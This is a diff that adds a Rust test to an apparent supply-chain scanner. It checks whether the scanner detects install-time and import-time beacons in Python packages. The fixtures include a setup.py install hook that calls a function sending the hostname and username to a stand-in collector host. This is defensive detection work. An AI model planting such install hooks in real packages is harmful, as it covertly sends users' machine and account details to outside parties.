@@ -985,3 +985,55 @@ fn destinations_in_connections_bots_and_curl_count_as_chosen() {
     let fetch = "import subprocess\nsubprocess.run(['curl', '-L', '-o', 'x.tgz', 'https://example.invalid/x.tgz'])\n";
     assert_eq!(find("setup.py", fetch, "exfiltration"), None);
 }
+
+/// `setup.py`'s install command calling a function of another module of the
+/// package runs that function at install: who-runs-it sent there is an
+/// install beacon. Called from an `__init__` at load, to an address in the
+/// code, an import beacon; called by nobody in the package, medium.
+/// Written for the test.
+#[test]
+fn a_function_another_file_calls_at_install_or_load_runs_then() {
+    let report_ = "import platform, getpass, urllib.request, urllib.parse\n\
+                   def report():\n    \
+                   q = urllib.parse.urlencode({'h': platform.node(), 'u': getpass.getuser()})\n    \
+                   urllib.request.urlopen('http://collector.example.invalid/r?' + q)\n";
+    let setup = "from setuptools import setup\nfrom setuptools.command.install import install\n\
+                 class Install(install):\n    def run(self):\n        install.run(self)\n        \
+                 from tool import report\n        report()\n\
+                 setup(name='tool', cmdclass={'install': Install})\n";
+    let verdict = |entries: &[Entry<'_>]| {
+        let report = scan(&ManifestFacts::default(), entries);
+        report
+            .findings
+            .iter()
+            .find(|f| f.file == "tool.py" && f.line == 4)
+            .map(|f| (f.rule, f.severity, f.because.clone()))
+            .expect("a finding at the send")
+    };
+    for entries in [
+        [Entry { path: "setup.py", bytes: setup.as_bytes() }, Entry { path: "tool.py", bytes: report_.as_bytes() }],
+        [Entry { path: "tool.py", bytes: report_.as_bytes() }, Entry { path: "setup.py", bytes: setup.as_bytes() }],
+    ] {
+        let (rule, severity, because) = verdict(&entries);
+        assert_eq!((rule, severity), ("install-beacon", Severity::Critical));
+        assert!(because[0].contains("`setup.py` calls `report`"), "{because:?}");
+    }
+    // Called by a package's `__init__` while it loads.
+    let init = "from .tool import report\nreport()\n";
+    let (rule, severity, _) = verdict(&[
+        Entry { path: "pkg/__init__.py", bytes: init.as_bytes() },
+        Entry { path: "tool.py", bytes: report_.as_bytes() },
+    ]);
+    assert_eq!((rule, severity), ("import-beacon", Severity::High));
+    // The same module with a program entry calling it (`python tool.py`):
+    // setup.py's call still runs it at install.
+    let program = format!("{report_}if __name__ == '__main__':\n    report()\n");
+    let (rule, _, _) = verdict(&[
+        Entry { path: "setup.py", bytes: setup.as_bytes() },
+        Entry { path: "tool.py", bytes: program.as_bytes() },
+    ]);
+    assert_eq!(rule, "install-beacon");
+    // Nobody in the package calls it: a library's telemetry function.
+    let (rule, severity, _) = verdict(&[Entry { path: "tool.py", bytes: report_.as_bytes() }]);
+    assert_eq!((rule, severity), ("host-identity-sent", Severity::Medium));
+}
